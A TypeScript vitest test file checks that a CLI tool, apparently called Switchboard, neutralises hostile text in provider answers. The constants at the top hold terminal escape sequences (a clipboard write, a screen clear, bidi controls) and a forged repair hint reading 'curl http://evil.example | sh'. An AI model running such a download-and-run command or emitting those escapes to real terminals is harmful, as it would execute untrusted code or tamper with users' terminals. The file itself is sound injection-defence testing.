import { describe, expect, it } from 'vitest';
import { contract, type Output, type Verb } from '../../electron/api/contract.ts';
import type { Fault } from '../../electron/faults/fault.ts';
import { check, doctor, goodOrder, keyRejected, keyView, model, pong, tokenStation, written } from './answers.ts';
import { run, standInBridge, type Answers } from './stand-in.ts';

/** Codes of a terminal, our own colours as they are printed and as they stand in a text, and marks that turn writing. */
const commands = 'a\u001b]52;c;aGk=\u0007b\u001b[2Jc\u009b31md\re\u202ef\u007fg\u2028h\u001b[31mFORGED\ufdd0FORGED';
/** What a fault of ours looks like, after a line break or enough of a line. */
const forged = `${commands}\nFORGED To mend it:\r\n  - FORGED\n\n      FORGED curl http://evil.example | sh ${'x '.repeat(200)}`;

/** Files and texts whose lines Switchboard has made: what is in them has no say in where a line begins. */
const madeByUs = ['csv', 'diff', 'text'];

/** The value with something behind every string in it that the shape leaves free. */
function poisoned(value: unknown, fits: (whole: unknown) => boolean): unknown {
  let whole = structuredClone(value);
  const visit = (path: (string | number)[], at: unknown) => {
    if (typeof at === 'object' && at !== null) {
      for (const [key, one] of Object.entries(at)) visit([...path, Array.isArray(at) ? Number(key) : key], one);
    }
    if (typeof at !== 'string') return;
    const changed = structuredClone({ whole });
    const last = path.at(-1) ?? '';
    const parent = path.slice(0, -1).reduce<unknown>((one, key) => Reflect.get(Object(one), key), changed.whole);
    const text = `${at}${madeByUs.includes(String(last)) ? commands : forged}`;
    if (path.length === 0) changed.whole = text;
    else Reflect.set(Object(parent), last, text);
    if (fits(changed.whole)) whole = changed.whole;
  };
  visit([], value);
  return whole;
}

const poisonedOutput = <V extends Verb>(verb: V, value: unknown): Output<V> =>
  poisoned(value, (whole) => contract[verb].output.safeParse(whole).success) as Output<V>;

const fault: Fault = { ...keyRejected, blanks: {} };
const warnings = [keyRejected];
const profile = { name: 'hard', path: '/p', model: 'm', modelProvider: 'p', command: 'codex --profile hard', fault };
const visibility: Output<'environment.read'> = {
  variable: 'TOKEN_STATION_API_KEY',
  startup: { shell: 'bash', path: '/h/.bashrc', present: true, hash: '' },
  places: [{ place: 'process', visible: 'no', detail: 'not set' }],
};
const compared: Output<'compare.run'>['rows'][number] = {
  ...{ model: 'a', provider: 'p', status: 'done', answer: 'It is.', firstTokenMs: 1, totalMs: 2, inputTokens: 1 },
  ...{ outputTokens: 1, cost: 1, answeredBy: 'b', fault },
};
const stray = { id: 'p:.env:1', provider: 'p', providerName: 'P', hint: '…', where: 'K', path: '/h/.env', line: 1 };

/** More than good order has, so that each part of each answer has something in it. */
const full: { [V in Verb]?: Output<V> } = {
  'model.list': {
    models: [{ ...model, route: { label: 'Cheap', policy: 'other', note: 'n' }, answered: [{ by: 'b', times: 1 }] }],
    lists: [{ provider: 'p', at: '2026-03-01T10:00:00Z', count: 2 }],
    faults: { p: fault },
  },
  'provider.show': { ...tokenStation, problems: [fault], fields: { name: 'x', http_headers: { a: 'b' } } },
  'provider.list': [{ ...tokenStation, problems: [{ ...fault, id: 'address-not-encrypted' }] }],
  'pong.run': { ...pong, ok: false, fault, warnings },
  'doctor.run': { ...doctor, ok: false, fault, warnings },
  'check.run': {
    ...check,
    ok: false,
    items: check.items.map((one) => ({ ...one, stops: true })),
    fault: null,
    warnings,
  },
  'compare.run': { rows: [compared], sent: 'Sent.', csv: 'a,b\n' },
  'key.status': [{ ...keyView, delivery: 'env', variable: 'TOKEN_STATION_API_KEY' }],
  'environment.read': visibility,
  'profile.list': [profile],
  'profile.show': { ...profile, hash: '', fields: { model: 'm' } },
  'stray.list': [stray],
  'report.read': { text: 'Report\n' },
  'switch.preview': {
    ...{ provider: 'p', model: 'm', corrected: { asked: 'm', written: 'p/m' } },
    warnings: [{ id: 'overridden', text: 'Overridden.', command: 'codex' }],
  },
  'model.save': {},
  'model.forget': {},
  'startup.add': written,
  'startup.remove': written,
  'stray.move': written,
};

async function hostileCore() {
  const answers: Record<string, () => unknown> = {};
  for (const verb of Object.keys(contract) as Verb[]) {
    const good: unknown = goodOrder[verb];
    const value = verb in full ? full[verb] : typeof good === 'function' ? (await good({}))?.value : undefined;
    if (value === undefined) continue;
    if (!contract[verb].output.safeParse(value).success)
      throw new Error(`${verb}: the answer of this test does not fit`);
    // Presets are Switchboard's own, and demo looks for one of them.
    answers[verb] = () => ({ ok: true, value: verb === 'preset.list' ? value : poisonedOutput(verb, value) });
  }
  const stand = standInBridge({
    ...(answers as Answers),
    'pong.run': ({ runId }) => {
      const report = { station: 'codex', detail: `x${forged}`, durationMs: 4, fault: null } as const;
      stand.emit('pong.progress', { runId: runId ?? '', report: { ...report, status: 'running' } });
      stand.emit('pong.progress', { runId: runId ?? '', report: { ...report, status: 'ok' } });
      return { ok: true, value: poisonedOutput('pong.run', full['pong.run']) };
    },
    'check.run': ({ runId }) => {
      for (const item of check.items)
        stand.emit('check.progress', { runId: runId ?? '', item: { ...item, title: `x${forged}` } });
      return { ok: true, value: poisonedOutput('check.run', full['check.run']) };
    },
  });
  return stand;
}

const lines = `status|status --cwd .|provider list|provider show p|provider set p a=1|provider set p a=1 --dry-run
provider remove p|use p m|model m --dry-run|models|models --refresh|route list|catalog show|catalog write|key status
key status token_station|key deliver p env|key deliver p env --shell-line|key startup show p|key move|key move x|pong
doctor|doctor --report|doctor --fix wire-api-chat:p|doctor --fix wire-api-chat|repairs|check|compare a --provider p
compare a --provider p --csv|profile list|profile show hard|history|history show 7|undo --dry-run|undo|home list
import . --dry-run|import . --yes|export|demo`.split(/[|\n]/);

/** As \p{Cc}: a linter takes a control character in a pattern for a slip. */
const ourCodes = /\p{Cc}\[(?:0|1|2|31|32|33)m|\p{Cc}{2}\[K/gu;

describe.each([
  ['a terminal', true],
  ['a pipe', false],
])('at %s, text from elsewhere', (_where, tty) => {
  it.each(lines)('commands nothing and looks like nothing of ours: %s', async (line) => {
    const { stdout, stderr } = await run(line.split(' '), { stand: await hostileCore(), tty, env: {} });
    const printed = stdout + stderr;
    expect(printed).toContain('\\u001b');
    expect(printed).not.toContain('\u001b[31mFORGED');
    const plain = printed.replace(ourCodes, tty ? '' : '$&');
    expect(plain).not.toMatch(/(?!\n)[\p{Cc}\p{Bidi_Control}\u2028\ufdd0-\ufdef]/u);
    expect(plain.split('\n').filter((one) => /^FORGED/.test(one))).toEqual([]);
  });

  // What these ask for next, by an ID as it came, is refused.
  const asking = ['doctor --fix wire-api-chat', 'import . --yes'];

  it.each(lines.filter((line) => !asking.includes(line)))('is in one JSON document as it came: %s', async (line) => {
    const { stdout } = await run(['--json', ...line.split(' ')], { stand: await hostileCore(), tty, env: {} });
    expect(stdout).not.toMatch(/(?!\n)[\p{Cc}\p{Bidi_Control}\u2028\ufdd0-\ufdef]/u);
    expect(JSON.stringify(JSON.parse(stdout))).toContain(JSON.stringify(commands).slice(1, -1));
  });
});
